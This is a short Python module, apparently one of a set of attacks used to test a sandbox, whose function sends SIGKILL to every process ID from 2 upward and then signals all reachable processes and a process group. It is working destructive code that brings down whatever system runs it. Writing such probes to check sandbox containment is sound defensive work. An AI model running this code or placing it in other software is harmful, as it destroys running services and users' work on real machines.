"""Kills every process that it can name, itself excepted."""

from __future__ import annotations

import contextlib
import os
import signal

from sandbox.attacks.tools import BREACH


def attack() -> None:
    for pid in range(2, 40_000):
        try:
            os.kill(pid, signal.SIGKILL)
            print(BREACH, "killed", pid)
        except ProcessLookupError:
            pass
    for group in (-1, 0):
        with contextlib.suppress(ProcessLookupError):
            os.kill(group, signal.SIGTERM) if group else os.killpg(2, signal.SIGKILL)
